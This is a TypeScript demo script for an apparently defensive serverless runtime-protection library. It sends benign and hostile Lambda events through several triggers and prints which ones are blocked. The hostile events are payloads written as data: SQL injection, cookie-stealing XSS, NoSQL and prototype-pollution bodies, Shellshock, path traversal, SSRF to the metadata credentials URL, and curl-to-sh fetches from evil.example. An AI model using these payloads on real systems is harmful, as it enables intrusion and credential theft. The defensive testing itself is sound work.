/**
 * `npm run demo`: wraps real handlers with `protect()` exactly as a user would (importing the package by
 * name), fires benign and attack events at them through every kind of trigger, and prints what was
 * blocked, by which rule, and where in the event.
 */
import type { Context, SQSBatchResponse } from 'aws-lambda';
import { protect, RequestBlockedError, type SecurityEvent } from 'serverless-rasp/aws-lambda';
import * as ev from '../../test/helpers/lambda-events';

interface Row {
  trigger: string;
  input: string;
  verdict: string;
  rule: string;
  where: string;
}

const rows: Row[] = [];
let last: SecurityEvent[] = [];
const options = { log: false as const, onSecurityEvent: (e: SecurityEvent) => last.push(e) };

// --- Real handlers, as an application would write them -------------------------------------------
const ordersApi = protect(
  async (event: { body?: string }) => {
    const order = JSON.parse(event.body ?? '{}') as { sku?: string; qty?: number };
    return { statusCode: 201, body: JSON.stringify({ accepted: order.sku, qty: order.qty }) };
  },
  {
    ...options,
    schemas: {
      'POST /orders': {
        type: 'object',
        required: ['sku', 'qty'],
        additionalProperties: true,
        properties: { sku: { type: 'string', maxLength: 64 }, qty: { type: 'integer', minimum: 1, maximum: 100 } },
      },
    },
  },
);

const searchApi = protect(async (event: { queryStringParameters?: Record<string, string> }) => {
  return { statusCode: 200, body: JSON.stringify({ results: [], q: event.queryStringParameters?.q ?? '' }) };
}, options);

const queueWorker = protect(async (event: { Records: Array<{ messageId: string }> }): Promise<SQSBatchResponse> => {
  processed.push(...event.Records.map((r) => r.messageId));
  return { batchItemFailures: [] };
}, options);
const processed: string[] = [];

const thumbnailer = protect(async (event: { Records: unknown[] }) => `resized ${event.Records.length} image(s)`, options);

const context = (): Context => ev.lambdaContext({ functionName: 'demo' });

function short(s: string): string {
  const one = s.replace(/\s+/g, ' ');
  return one.length > 46 ? one.slice(0, 45) + '…' : one;
}

function record(trigger: string, input: string, verdict: string): void {
  const f = last[0]?.findings[0];
  rows.push({ trigger, input: short(input), verdict, rule: f ? `${f.rule} (${f.class})` : '-', where: f?.path ?? '-' });
  last = [];
}

async function http(name: string, input: string, event: unknown, handler: (e: never, c: Context) => Promise<unknown>): Promise<void> {
  const res = (await handler(event as never, context())) as { statusCode: number };
  record(name, input, res.statusCode === 403 ? 'BLOCKED 403' : res.statusCode === 400 ? 'REJECTED 400' : `allowed ${res.statusCode}`);
}

async function main(): Promise<void> {
  const json = { 'content-type': 'application/json' };
  // HTTP API (v2): search box and orders.
  for (const q of ['running shoes', "O'Brien & Sons", "shoes' UNION SELECT email, password FROM users--", '<img src=x onerror=alert(document.cookie)>']) {
    await http('HTTP API query', q, ev.apiGatewayV2({ routeKey: 'GET /search', path: '/search', query: { q } }), searchApi);
  }
  const orders: Array<[string, unknown]> = [
    ['{"sku":"TSHIRT-42","qty":2}', { sku: 'TSHIRT-42', qty: 2 }],
    ['{"sku":"TSHIRT-42","qty":-5}', { sku: 'TSHIRT-42', qty: -5 }],
    ['{"sku":{"$ne":null},"qty":1}', { sku: { $ne: null }, qty: 1 }],
    ['{"__proto__":{"isAdmin":true},...}', JSON.parse('{"__proto__":{"isAdmin":true},"sku":"A","qty":1}')],
  ];
  for (const [label, body] of orders) {
    const raw = label.startsWith('{"__proto__"') ? '{"__proto__":{"isAdmin":true},"sku":"A","qty":1}' : JSON.stringify(body);
    await http('HTTP API body', label, ev.apiGatewayV2({ routeKey: 'POST /orders', path: '/orders', method: 'POST', body: raw, headers: json }), ordersApi);
  }
  // REST API (v1): header and path parameter.
  await http('REST API header', 'User-Agent: () { :; }; /bin/cat /etc/passwd', ev.apiGatewayV1({ headers: { 'User-Agent': '() { :; }; /bin/cat /etc/passwd' } }), searchApi);
  await http('REST API path', '/files/..%2f..%2f..%2fetc%2fpasswd', ev.apiGatewayV1({ resource: '/files/{name}', path: '/files/..%2f..%2f..%2fetc%2fpasswd', pathParameters: { name: '../../../etc/passwd' } }), searchApi);
  // Function URL with a webhook target (SSRF) and ALB with a cookie.
  await http('Function URL body', '{"callback":"http://169.254.169.254/latest/..."}', ev.functionUrl({ method: 'POST', body: JSON.stringify({ callback: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }), headers: json }), searchApi);
  await http('Function URL body', '{"callback":"https://hooks.example.com/x"}', ev.functionUrl({ method: 'POST', body: JSON.stringify({ callback: 'https://hooks.example.com/x' }), headers: json }), searchApi);
  await http('ALB cookie', 'theme=dark', ev.alb({ cookies: { theme: 'dark' } }), searchApi);
  await http('ALB query', 'next=javascript:alert(1)', ev.alb({ query: { next: 'javascript:alert(1)' } }), searchApi);

  // SQS batch: one poisoned message among clean ones.
  const batch = ev.sqs([
    { body: JSON.stringify({ customer: 'Ann Lee', note: 'leave at the door; ring twice' }), messageId: 'msg-1' },
    { body: JSON.stringify({ customer: 'x', note: '$(curl -s http://evil.example/p.sh | sh)' }), messageId: 'msg-2' },
    { body: JSON.stringify({ customer: 'Bo', note: 'fragile' }), messageId: 'msg-3' },
  ]);
  const sqsRes = (await queueWorker(batch as never, context())) as SQSBatchResponse;
  for (const r of batch.Records) {
    const failed = sqsRes.batchItemFailures.some((f) => f.itemIdentifier === r.messageId);
    const evts = last.filter((e) => e.requestId?.endsWith(`#${batch.Records.indexOf(r)}`));
    const f = evts[0]?.findings[0];
    rows.push({
      trigger: 'SQS record',
      input: short(r.body),
      verdict: failed ? 'BLOCKED → DLQ' : processed.includes(r.messageId) ? 'processed' : 'not processed',
      rule: f ? `${f.rule} (${f.class})` : '-',
      where: f?.path ?? '-',
    });
  }
  last = [];

  // S3: a shell command hidden in an object key, which no WAF ever sees.
  for (const key of ['photos/2024/beach day.jpg', 'photos/x.jpg;curl evil.example|sh']) {
    try {
      await thumbnailer(ev.s3([{ key }]) as never, context());
      record('S3 object key', key, 'processed');
    } catch (err) {
      record('S3 object key', key, err instanceof RequestBlockedError ? 'BLOCKED (throw)' : `error: ${(err as Error).message}`);
    }
  }

  const widths = { trigger: 18, input: 47, verdict: 14, rule: 34 };
  const line = (r: Row): string =>
    `${r.trigger.padEnd(widths.trigger)} ${r.input.padEnd(widths.input)} ${r.verdict.padEnd(widths.verdict)} ${r.rule.padEnd(widths.rule)} ${r.where}`;
  console.log('serverless-rasp demo: real handlers wrapped with protect(), real-shaped Lambda events\n');
  console.log(line({ trigger: 'trigger', input: 'input', verdict: 'verdict', rule: 'rule (class)', where: 'where in the event' }));
  console.log('-'.repeat(150));
  for (const r of rows) console.log(line(r));
  const blocked = rows.filter((r) => /BLOCKED|REJECTED/.test(r.verdict)).length;
  console.log(`\n${rows.length} requests: ${blocked} blocked or rejected, ${rows.length - blocked} allowed.`);
}

main().catch((err: unknown) => {
  console.error(err);
  process.exit(1);
});
